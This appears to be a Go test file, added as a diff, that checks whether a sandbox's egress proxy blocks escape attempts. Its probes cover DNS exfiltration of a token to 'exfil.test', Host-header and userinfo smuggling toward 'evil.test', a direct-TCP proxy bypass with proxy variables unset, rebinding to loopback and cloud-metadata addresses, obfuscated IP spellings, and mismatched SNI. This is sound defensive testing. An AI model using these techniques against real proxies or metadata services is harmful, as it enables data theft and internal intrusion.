@@ -1,0 +1,475 @@
+package qualify
+
+// Governed-egress cases (network.mode: proxy): P19 DNS exfiltration, P20
+// request forms, P21 bypassing the proxy, P22 rebinding and internal
+// targets, P23 IP literal spellings, P24 SNI vs CONNECT target. Upstreams
+// are loopback servers named through the policy's hosts map, with
+// allow_private for exactly their addresses.
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+)
+
+func init() {
+	Register(Case{ID: "P19", Title: "DNS exfiltration", Applies: linuxOnly, Run: runP19})
+	Register(Case{ID: "P20", Title: "request forms", Applies: linuxOnly, Run: runP20})
+	Register(Case{ID: "P21", Title: "bypassing the proxy", Applies: linuxOnly, Run: runP21})
+	Register(Case{ID: "P22", Title: "rebinding and internal targets", Applies: linuxOnly, Run: runP22})
+	Register(Case{ID: "P23", Title: "IP literal spellings", Applies: linuxOnly, Run: runP23})
+	Register(Case{ID: "P24", Title: "SNI vs CONNECT target", Applies: linuxOnly, Run: runP24})
+}
+
+// proxyRun runs steps in a proxy-mode sandbox with the rules n.
+func (e *Env) proxyRun(ctx context.Context, n egressNet, flags []string, ss ...step) (Outcome, map[string]stepOut, error) {
+	o, err := e.Corral(ctx, Run{Policy: e.policyFor(pol{Network: "proxy", NetRules: n.yaml()}), Flags: flags, Args: e.steps(ss...)})
+	return o, parseSteps(o), err
+}
+
+// allowedNet allows api.allowed.test on the upstream h only.
+func allowedNet(h *upstream) egressNet {
+	return egressNet{
+		allow:   []ep{{"api.allowed.test", []int{h.port}}},
+		private: []ep{{h.ip + "/32", []int{h.port}}},
+		hosts:   map[string]string{"api.allowed.test": h.ip},
+	}
+}
+
+// checkStatus checks an http step's status against want ("400|403").
+func checkStatus(e *Env, r *Result, label string, s stepOut, want string) {
+	e.Check(r, label, s.String(), statusIn(s, want), fmt.Sprintf("%s: status %q, want %s", label, s.status(), want))
+}
+
+// P19: resolve <data>.exfil.test, dig @<server>, curl http://b.exfil.test.
+func runP19(ctx context.Context, e *Env) Result {
+	r := newResult()
+	h, err := newUpstream("127.0.0.2", 0)
+	if err != nil {
+		failNow(e, &r, "upstream", err)
+		return r
+	}
+	defer h.Close()
+	udp, err := listen("udp", "127.0.0.53:0")
+	if err != nil {
+		failNow(e, &r, "DNS listener", err)
+		return r
+	}
+	defer udp.Close()
+	tcp, err := listen("tcp", "127.0.0.53:"+udp.port())
+	if err != nil {
+		failNow(e, &r, "DNS listener (tcp)", err)
+		return r
+	}
+	defer tcp.Close()
+	tok := newToken()
+	audit := filepath.Join(e.TempDir("p19-audit"), "audit.jsonl")
+	bname := "b-" + tok + ".exfil.test"
+	o, s, err := e.proxyRun(ctx, allowedNet(h), []string{"--audit", audit},
+		step{Label: "dns", Args: []string{"dns", tok + ".exfil.test", udp.Addr()}},
+		step{Label: "getent", Shell: "getent hosts getent-" + tok + ".exfil.test; echo getent=$?"},
+		httpStep("http-exfil", "GET", "http://"+bname+"/", "Host:"+bname),
+		httpStep("connect-exfil", "CONNECT", bname+":443", "Host:"+bname+":443"),
+		httpStep("control", "GET", "http://"+h.hostPort("api.allowed.test")+"/", "Host:"+h.hostPort("api.allowed.test")),
+	)
+	if err != nil {
+		failNow(e, &r, "corral run", err)
+		return r
+	}
+	e.Check(&r, "run (network: proxy, allow api.allowed.test)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
+	checkStatus(e, &r, "control: GET http://api.allowed.test/ through the proxy", s["control"], "200")
+	for _, x := range s["dns"].Results {
+		if strings.HasSuffix(x.What, " send") {
+			e.Check(&r, x.What+" (the listener decides)", show(x), true, "")
+			continue
+		}
+		e.Check(&r, x.What, show(x), !x.OK, x.What+" got an answer")
+	}
+	e.Check(&r, "getent hosts getent-<token>.exfil.test", clip(s["getent"].Text, 200), strings.Contains(s["getent"].Text, "getent=2"), "the system resolver answered a name from inside")
+	checkStatus(e, &r, "GET http://b-<token>.exfil.test/ through the proxy", s["http-exfil"], "403")
+	checkStatus(e, &r, "CONNECT b-<token>.exfil.test:443", s["connect-exfil"], "403")
+	settle()
+	e.Check(&r, "host: the DNS server saw", fmt.Sprintf("%d datagrams, %d TCP connections", udp.Count(), tcp.Count()), udp.Count() == 0 && tcp.Count() == 0, "the test's DNS server received queries from the sandbox")
+	// The proxy resolved no denied name.
+	evs, err := egressEvents(audit)
+	e.Check(&r, "audit: egress events", fmt.Sprintf("%d events (%v)", len(evs), err), err == nil && len(evs) >= 3, "the audit log has no egress events")
+	for _, ev := range evs {
+		if strings.Contains(ev.Dst.Hostname, "exfil.test") && ev.Dst.IP != "" {
+			e.Check(&r, "audit: "+ev.Dst.Hostname, "resolved to "+ev.Dst.IP, false, "the proxy resolved a denied name")
+		}
+	}
+	return r
+}
+
+type egressEvent struct {
+	ClassUID int    `json:"class_uid"`
+	Action   string `json:"action"`
+	Dst      struct {
+		Hostname string `json:"hostname"`
+		IP       string `json:"ip"`
+		Port     int    `json:"port"`
+	} `json:"dst_endpoint"`
+}
+
+func egressEvents(path string) ([]egressEvent, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+	var out []egressEvent
+	sc := bufio.NewScanner(f)
+	sc.Buffer(make([]byte, 1<<20), 1<<20)
+	for sc.Scan() {
+		var ev egressEvent
+		if json.Unmarshal(sc.Bytes(), &ev) == nil && ev.ClassUID == 4002 {
+			out = append(out, ev)
+		}
+	}
+	return out, sc.Err()
+}
+
+// P20: absolute-form to a denied host, Host header differing from the
+// target, HTTP/1.0 without Host, userinfo.
+func runP20(ctx context.Context, e *Env) Result {
+	r := newResult()
+	h, err := newUpstream("127.0.0.2", 0)
+	if err != nil {
+		failNow(e, &r, "upstream", err)
+		return r
+	}
+	defer h.Close()
+	evil, err := newUpstream("127.0.0.4", 0)
+	if err != nil {
+		failNow(e, &r, "evil upstream", err)
+		return r
+	}
+	defer evil.Close()
+	n := allowedNet(h)
+	n.private = append(n.private, ep{evil.ip + "/32", []int{evil.port}})
+	n.hosts["evil.test"] = evil.ip
+	good, bad := h.hostPort("api.allowed.test"), evil.hostPort("evil.test")
+	cases := []struct {
+		label string
+		st    step
+		want  string
+	}{
+		{"control", httpStep("control", "GET", "http://"+good+"/", "Host:"+good), "200"},
+		{"control HTTP/1.0", httpStep("control HTTP/1.0", "GET", "http://"+good+"/", "proto:HTTP/1.0"), "200"},
+		{"absolute-form GET http://evil.test/", httpStep("absolute-form GET http://evil.test/", "GET", "http://"+bad+"/", "Host:"+bad), "403"},
+		{"Host header differs from the target", httpStep("Host header differs from the target", "GET", "http://"+good+"/", "Host:"+bad), "400"},
+		{"Host header differs in the port", httpStep("Host header differs in the port", "GET", "http://"+good+"/", "Host:api.allowed.test:1"), "400"},
+		{"two Host headers", httpStep("two Host headers", "GET", "http://"+good+"/", "Host:"+good, "Host:"+bad), "400"},
+		{"HTTP/1.0 without Host to evil.test", httpStep("HTTP/1.0 without Host to evil.test", "GET", "http://"+bad+"/", "proto:HTTP/1.0"), "403"},
+		{"userinfo http://api.allowed.test@evil.test/", httpStep("userinfo http://api.allowed.test@evil.test/", "GET", "http://api.allowed.test@"+bad+"/", "Host:"+bad), "400|403"},
+		{"userinfo with port", httpStep("userinfo with port", "GET", "http://"+good+"@"+bad+"/", "Host:"+bad), "400|403"},
+		{"origin-form with Host: evil.test", httpStep("origin-form with Host: evil.test", "GET", "/", "Host:"+bad), "400|403"},
+		{"CONNECT evil.test", httpStep("CONNECT evil.test", "CONNECT", bad, "Host:"+bad), "403"},
+		{"CONNECT with userinfo", httpStep("CONNECT with userinfo", "CONNECT", "api.allowed.test@"+bad, "Host:"+bad), "400|403"},
+		{"percent-encoded host", httpStep("percent-encoded host", "GET", "http://evil%2etest:"+strconv.Itoa(evil.port)+"/", "Host:"+bad), "400|403"},
+		{"trailing-dot host", httpStep("trailing-dot host", "GET", "http://evil.test.:"+strconv.Itoa(evil.port)+"/", "Host:evil.test.:"+strconv.Itoa(evil.port)), "400|403"},
+		{"https scheme in absolute-form", httpStep("https scheme in absolute-form", "GET", "https://"+bad+"/", "Host:"+bad), "400|403"},
+	}
+	var ss []step
+	for _, c := range cases {
+		ss = append(ss, c.st)
+	}
+	o, s, err := e.proxyRun(ctx, n, nil, ss...)
+	if err != nil {
+		failNow(e, &r, "corral run", err)
+		return r
+	}
+	e.Check(&r, "run (network: proxy, allow api.allowed.test; evil.test mapped and covered by allow_private but not allowed)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
+	for _, c := range cases {
+		checkStatus(e, &r, c.label, s[c.label], c.want)
+	}
+	t := evil.touched()
+	e.Check(&r, "host: the evil upstream", "reached: "+t, t == "", "the evil upstream was reached: "+t)
+	return r
+}
+
+// P21: no proxy variables / NO_PROXY=*: raw TCP to the upstream's IP,
+// host loopback services, IPv6, port 3128 elsewhere, UDP, abstract unix.
+func runP21(ctx context.Context, e *Env) Result {
+	r := newResult()
+	h, err := newUpstream("127.0.0.2", 0)
+	if err != nil {
+		failNow(e, &r, "upstream", err)
+		return r
+	}
+	defer h.Close()
+	var ctrs []*counter
+	defer func() {
+		for _, c := range ctrs {
+			c.Close()
+		}
+	}()
+	var tcpT, udpT, absT []string
+	add := func(network, addr string) {
+		ln := network
+		if network == "abstract" {
+			ln = "unix"
+		}
+		c, err := listen(ln, addr)
+		if err != nil {
+			e.Check(&r, "host: listen "+network+" "+addr, err.Error(), true, "")
+			return
+		}
+		ctrs = append(ctrs, c)
+		switch network {
+		case "tcp":
+			tcpT = append(tcpT, c.Addr())
+		case "udp":
+			udpT = append(udpT, c.Addr())
+		default:
+			absT = append(absT, c.Addr())
+		}
+	}
+	add("tcp", "127.0.0.1:0")
+	add("tcp", "[::1]:0")
+	add("tcp", "127.0.0.5:3128") // the port Landlock lets through: only topology stops it
+	add("tcp", "[::1]:3128")
+	add("udp", "127.0.0.53:0")
+	add("abstract", "@"+marker("p21"))
+	if addrs, err := net.InterfaceAddrs(); err == nil {
+		for _, a := range addrs {
+			if ipn, ok := a.(*net.IPNet); ok && !ipn.IP.IsLoopback() && !ipn.IP.IsLinkLocalUnicast() && !ipn.IP.IsMulticast() {
+				add("tcp", net.JoinHostPort(ipn.IP.String(), "0")) // the host's own address: local delivery only
+			}
+		}
+	}
+	hAddr := net.JoinHostPort(h.ip, strconv.Itoa(h.port))
+	tcpT = append([]string{hAddr}, tcpT...)
+	ss := []step{
+		{Label: "direct tcp", Shell: "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy NO_PROXY='*' no_proxy='*' " + e.probeLine(append([]string{"connect", "tcp"}, tcpT...)...)},
+		{Label: "udp", Args: append([]string{"connect", "udp"}, udpT...)},
+		httpStep("control", "GET", "http://"+h.hostPort("api.allowed.test")+"/", "Host:"+h.hostPort("api.allowed.test")),
+	}
+	if len(absT) > 0 {
+		ss = append(ss, step{Label: "abstract", Args: append([]string{"connect", "abstract"}, absT...)})
+	}
+	o, s, err := e.proxyRun(ctx, allowedNet(h), nil, ss...)
+	if err != nil {
+		failNow(e, &r, "corral run", err)
+		return r
+	}
+	e.Check(&r, "run (network: proxy, allow api.allowed.test)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
+	checkStatus(e, &r, "control: the same upstream through the proxy", s["control"], "200")
+	for _, k := range []string{"direct tcp", "abstract"} {
+		if k == "abstract" && len(absT) == 0 {
+			continue
+		}
+		if !s[k].reported() {
+			mustFail(e, &r, k, s[k], "")
+		}
+		for _, x := range s[k].Results {
+			e.Check(&r, x.What+" (proxy variables unset, NO_PROXY=*)", show(x), !x.OK, x.What+" succeeded: a route around the proxy")
+		}
+	}
+	for _, x := range s["udp"].Results {
+		e.Check(&r, x.What+" (the listener decides)", show(x), true, "")
+	}
+	settle()
+	// The upstream saw exactly the control's connection.
+	reqs := h.requests()
+	ctl := int32(0)
+	if statusIn(s["control"], "200") {
+		ctl = 1
+	}
+	e.Check(&r, "host: the upstream saw", fmt.Sprintf("%d connections (%d from the control through the proxy), requests %q", h.accepts.Load(), ctl, reqs), h.accepts.Load() <= ctl && int32(len(reqs)) <= ctl, "the upstream was reached without the proxy")
+	for _, c := range ctrs {
+		e.Check(&r, "host: "+c.network+" "+c.Addr()+" saw", strconv.Itoa(c.Count()), c.Count() == 0, "host listener "+c.Addr()+" was reached from the sandbox")
+	}
+	return r
+}
+
+// P22: allowed names mapped to loopback, metadata, RFC 1918, ::1,
+// ::ffff:127.0.0.1, 0.0.0.0.
+func runP22(ctx context.Context, e *Env) Result {
+	r := newResult()
+	lo, err := newUpstream("127.0.0.1", 0)
+	if err != nil {
+		failNow(e, &r, "upstream", err)
+		return r
+	}
+	defer lo.Close()
+	port := lo.port
+	lo6, err := newUpstream("::1", port)
+	if err != nil {
+		e.Check(&r, "host: [::1] listener", err.Error(), true, "")
+	} else {
+		defer lo6.Close()
+	}
+	targets := []struct{ name, ip string }{
+		{"r-loopback.test", "127.0.0.1"}, {"r-metadata.test", "169.254.169.254"}, {"r-rfc1918.test", "10.0.0.1"},
+		{"r-ipv6-lo.test", "::1"}, {"r-v4mapped.test", "::ffff:127.0.0.1"}, {"r-unspec.test", "0.0.0.0"},
+	}
+	n := egressNet{hosts: map[string]string{}}
+	var ss []step
+	for _, t := range targets {
+		n.allow = append(n.allow, ep{t.name, []int{port}})
+		n.hosts[t.name] = t.ip
+		hp := net.JoinHostPort(t.name, strconv.Itoa(port))
+		ss = append(ss, httpStep("GET "+t.name+" -> "+t.ip, "GET", "http://"+hp+"/", "Host:"+hp), httpStep("CONNECT "+t.name+" -> "+t.ip, "CONNECT", hp, "Host:"+hp))
+	}
+	o, s, err := e.proxyRun(ctx, n, nil, ss...)
+	if err != nil {
+		failNow(e, &r, "corral run", err)
+		return r
+	}
+	e.Check(&r, "run (each name allowed, mapped by hosts, no allow_private)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
+	for _, st := range ss {
+		checkStatus(e, &r, st.Label, s[st.Label], "403")
+	}
+	t := lo.touched()
+	e.Check(&r, "host: the 127.0.0.1 listener", "reached: "+t, t == "", "the host's loopback listener was reached: "+t)
+	if lo6 != nil {
+		t := lo6.touched()
+		e.Check(&r, "host: the [::1] listener", "reached: "+t, t == "", "the host's [::1] listener was reached: "+t)
+	}
+	// Control: the same name is reachable once allow_private covers it.
+	n = egressNet{allow: []ep{{"r-loopback.test", []int{port}}}, private: []ep{{"127.0.0.1/32", []int{port}}}, hosts: map[string]string{"r-loopback.test": "127.0.0.1"}}
+	hp := net.JoinHostPort("r-loopback.test", strconv.Itoa(port))
+	o, s, err = e.proxyRun(ctx, n, nil, httpStep("control", "GET", "http://"+hp+"/", "Host:"+hp))
+	if err == nil {
+		checkStatus(e, &r, "control: r-loopback.test with allow_private 127.0.0.1/32", s["control"], "200")
+	} else {
+		failNow(e, &r, "control run", err)
+	}
+	_ = o
+	return r
+}
+
+// P23: 127.1, 2130706433, 0x7f000001, [::ffff:7f00:1], 0.0.0.0, [::] ...
+func runP23(ctx context.Context, e *Env) Result {
+	r := newResult()
+	lo, err := newUpstream("127.0.0.1", 0)
+	if err != nil {
+		failNow(e, &r, "upstream", err)
+		return r
+	}
+	defer lo.Close()
+	port := lo.port
+	p := strconv.Itoa(port)
+	lo6, err := newUpstream("::1", port)
+	if err == nil {
+		defer lo6.Close()
+	}
+	numeric := []string{"127.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.0.0.01", "0x7f.0.0.1", "0.0.0.0", "[::]", "0"}
+	steps := func(spellings []string, control bool) []step {
+		var ss []step
+		if control {
+			ss = append(ss, httpStep("control GET", "GET", "http://127.0.0.1:"+p+"/", "Host:127.0.0.1:"+p))
+		}
+		for _, s := range spellings {
+			a := s + ":" + p
+			ss = append(ss, httpStep("GET "+a, "GET", "http://"+a+"/", "Host:"+a), httpStep("CONNECT "+a, "CONNECT", a, "Host:"+a))
+		}
+		return ss
+	}
+	// As written: only api.allowed.test is allowed; allow_private covers
+	// 127.0.0.1 and ::1, so only the allow rules stand in the way.
+	n := egressNet{
+		allow:   []ep{{"api.allowed.test", []int{port}}},
+		private: []ep{{"127.0.0.1/32", []int{port}}, {"::1/128", []int{port}}},
+		hosts:   map[string]string{"api.allowed.test": "127.0.0.2"},
+	}
+	ss := steps(append(append([]string{}, numeric...), "127.0.0.1", "[::ffff:7f00:1]", "[::ffff:127.0.0.1]", "[::1]"), false)
+	o, s, err := e.proxyRun(ctx, n, nil, ss...)
+	if err != nil {
+		failNow(e, &r, "corral run", err)
+		return r
+	}
+	e.Check(&r, "run (allow api.allowed.test only; allow_private 127.0.0.1, ::1)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
+	for _, st := range ss {
+		checkStatus(e, &r, "as written: "+st.Label, s[st.Label], "400|403")
+	}
+	t := lo.touched()
+	e.Check(&r, "host: the 127.0.0.1 listener", "reached: "+t, t == "", "a spelling reached the host's loopback listener: "+t)
+	if lo6 != nil {
+		t := lo6.touched()
+		e.Check(&r, "host: the [::1] listener", "reached: "+t, t == "", "a spelling reached the host's [::1] listener: "+t)
+	}
+	// Strict: 127.0.0.1 itself is allowed; the other spellings of it must
+	// still be refused, not canonicalised into the allowed address.
+	n = egressNet{allow: []ep{{"127.0.0.1", []int{port}}}, private: []ep{{"127.0.0.1/32", []int{port}}}}
+	before := lo.accepts.Load()
+	ss = steps(numeric, true)
+	o, s, err = e.proxyRun(ctx, n, nil, ss...)
+	if err != nil {
+		failNow(e, &r, "corral run (strict)", err)
+		return r
+	}
+	checkStatus(e, &r, "strict: control GET http://127.0.0.1/ (allowed)", s["control GET"], "200")
+	for _, st := range ss[1:] {
+		checkStatus(e, &r, "strict: "+st.Label, s[st.Label], "400|403")
+	}
+	settle()
+	got := lo.accepts.Load() - before
+	e.Check(&r, "host: the 127.0.0.1 listener (strict run)", fmt.Sprintf("%d connections (the control's: 1)", got), got <= 1, "a non-canonical spelling reached the allowed address")
+	return r
+}
+
+// P24: CONNECT api.allowed.test:443, then a ClientHello with SNI
+// evil.test (and none).
+func runP24(ctx context.Context, e *Env) Result {
+	r := newResult()
+	s0, err := newUpstream("127.0.0.3", 0, "tls.allowed.test", "evil.test")
+	if err != nil {
+		failNow(e, &r, "TLS upstream", err)
+		return r
+	}
+	defer s0.Close()
+	n := egressNet{
+		allow:   []ep{{"tls.allowed.test", []int{s0.port}}, {s0.ip, []int{s0.port}}},
+		private: []ep{{s0.ip + "/32", []int{s0.port}}},
+		hosts:   map[string]string{"tls.allowed.test": s0.ip},
+	}
+	target := s0.hostPort("tls.allowed.test")
+	ipTarget := s0.hostPort(s0.ip)
+	cases := []struct {
+		label, target, sni string
+		open               bool
+	}{
+		{"SNI evil.test", target, "evil.test", false},
+		{"no SNI", target, "", false},
+		{"SNI tls.allowed.test.evil.test", target, "tls.allowed.test.evil.test", false},
+		{"SNI the IP", target, s0.ip, false},
+		{"IP-literal target, SNI evil.test", ipTarget, "evil.test", false},
+		{"control: SNI tls.allowed.test", target, "tls.allowed.test", true},
+		{"control: IP-literal target, no SNI", ipTarget, "", true},
+	}
+	var ss []step
+	for _, c := range cases {
+		ss = append(ss, httpStep(c.label, "CONNECT", c.target, "Host:"+c.target, "sni:"+c.sni))
+	}
+	o, s, err := e.proxyRun(ctx, n, nil, ss...)
+	if err != nil {
+		failNow(e, &r, "corral run", err)
+		return r
+	}
+	e.Check(&r, "run (allow tls.allowed.test and its IP)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
+	for _, c := range cases {
+		st := s[c.label]
+		tr, found := find(st.Results, "tls ")
+		got := st.String()
+		if c.open {
+			e.Check(&r, "CONNECT "+c.target+", "+c.label, got, found && tr.OK && strings.Contains(tr.Detail, "received"), c.label+": the tunnel did not carry the TLS handshake")
+			continue
+		}
+		// Secure: the CONNECT itself refused, or the tunnel closed on
+		// the ClientHello.
+		closed := (st.reported() && !st.anyOK()) || (found && !tr.OK)
+		e.Check(&r, "CONNECT "+c.target+", "+c.label, got, closed, c.label+": the tunnel stayed open")
+	}
+	settle()
+	h := s0.hellos.Load()
+	e.Check(&r, "host: TLS ClientHellos the upstream saw", fmt.Sprintf("%d (the 2 controls')", h), h <= 2, "a ClientHello with a wrong SNI reached the upstream")
+	return r
+}
